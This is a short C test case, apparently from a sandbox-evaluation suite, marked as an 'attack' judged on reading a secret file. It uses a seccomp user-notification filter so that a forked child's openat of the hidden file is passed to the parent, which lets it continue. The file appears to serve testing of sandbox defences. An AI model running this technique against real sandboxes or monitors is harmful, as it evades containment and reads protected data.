#include "attack.h"
// The same in use: a child's open of the hidden file is notified to the parent, which lets it go on.
ATTACK(.judge = "secret:file") {
  struct sock_filter code[] = {{BPF_LD | BPF_W | BPF_ABS, 0, 0, 0},
                               {BPF_JMP | BPF_JEQ | BPF_K, 0, 1, SYS_openat},
                               {BPF_RET | BPF_K, 0, 0, SECCOMP_RET_USER_NOTIF},
                               {BPF_RET | BPF_K, 0, 0, SECCOMP_RET_ALLOW}};
  struct sock_fprog p = {4, code};
  prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
  int fd = syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, SECCOMP_FILTER_FLAG_NEW_LISTENER, &p);
  if (fd < 0) return note("seccomp");
  if (!fork()) cat(arg("secret")), _exit(0);
  static char request[4096];
  if (ioctl(fd, SECCOMP_IOCTL_NOTIF_RECV, request)) return note("RECV");
  struct seccomp_notif_resp answer = {.id = ((struct seccomp_notif *)request)->id, .flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE};
  ioctl(fd, SECCOMP_IOCTL_NOTIF_SEND, &answer);
  wait(NULL);
}
